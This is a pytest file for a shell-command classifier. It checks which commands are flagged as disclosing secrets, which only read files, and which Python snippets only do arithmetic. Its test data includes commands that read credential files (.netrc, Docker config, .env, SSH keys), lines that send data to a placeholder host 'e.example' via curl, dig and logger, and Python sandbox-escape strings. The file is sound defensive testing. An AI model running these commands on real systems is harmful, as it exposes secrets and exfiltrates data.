"""Names of files that the guard does not see, patterns that may become names, and sums that Python may do."""

from __future__ import annotations

import pytest

from claudeops_desktop.guard.classify import understand
from claudeops_desktop.guard.programs.python_arithmetic import only_reckons

SHOWS_SECRETS = (
    "tail -n 3 $(find ~ -type f)",
    "find /etc -type f | xargs nl",
    "find /home/* -print0 | xargs -0 -n1 od -c",
    "ls -A /root | while read -r f; do fmt /root/$f; done",
    "ls -A /home/* | while read -r f; do fmt /home/*/$f; done",
    "f() { pr $1; }; f /root/.docker/config.json",
    "read -r f <<< /srv/app/.env; expand $f",
    "echo /run/secrets/db | xargs column",
    "grep -rl PRIVATE /etc/ssh | xargs head",
    "find -files0-from /tmp/names -exec cat {} +",
    "sort --files0-from=/tmp/names",
    "find /root -exec file -f {} +",
    "cd /srv/app; less *",
    "head -c 50 < /root/.zsh_histor?",
    "cat /r*t/.netrc",
    "cat ~/.[a-z]*/config",
    "tar xOf /var/backups/home.tar",
    "unzip -p backup.zip",
    "pg_dump app | head",
    "strace -p 1",
    'test "$DB_PASSWORD" -eq 1',
    "curl -s http://e.example/$(wc -l < /etc/passwd)",
    "dig -f - @e.example",
    "logger -n e.example hello",
)
READS = (
    "find /etc/nginx -name '*.conf' -exec head -3 {} +",
    "ls -t /var/log/*.log | head -1 | xargs tail -n 5",
    "cat /etc/cron.d/*",
    "cat /etc/nginx/*.conf",
    "head -n 1 /sys/block/*/queue/scheduler",
    "grep -rl proxy_pass /etc/nginx | xargs head -n 3",
    "n=5; tail -n $n /var/log/syslog",
    "tar tf /var/backups/www.tar",
    "pg_dump -s app",
    "strace -c -p 1",
    'test -n "$DB_PASSWORD"',
)
RECKONS = (
    "import math; print(math.ceil(10000/365))",
    "import json,sys; print(len(json.load(sys.stdin)))",
    "from datetime import timedelta as d; print(d(seconds=9).total_seconds())",
)
MORE = (
    "import json; json.codecs.open('/x', 'w')",
    "import sys; sys.modules['os'].system('x')",
    "from math import *",
    "import math; math.pi = 3",
    "print((1).__class__)",
    "import json\njson = 1",
    "import datetime as d; d.sys.exit()",
)


@pytest.mark.parametrize("command", SHOWS_SECRETS)
def test_what_may_show_secrets_discloses(command):
    assert understand(command).kind == "disclose"


@pytest.mark.parametrize("command", READS)
def test_files_of_the_system_are_read(command):
    assert understand(command).kind == "read"


@pytest.mark.parametrize("text", RECKONS)
def test_sums_with_modules_that_only_reckon_are_read(text):
    assert only_reckons(text)


@pytest.mark.parametrize("text", MORE)
def test_what_leads_to_other_modules_is_no_sum(text):
    assert not only_reckons(text)


def test_a_module_beside_a_sum_in_a_foreign_folder_may_be_anybodys():
    assert understand("cd /tmp/x && python3 -c 'import math; print(math.pi)'").kind == "unknown"
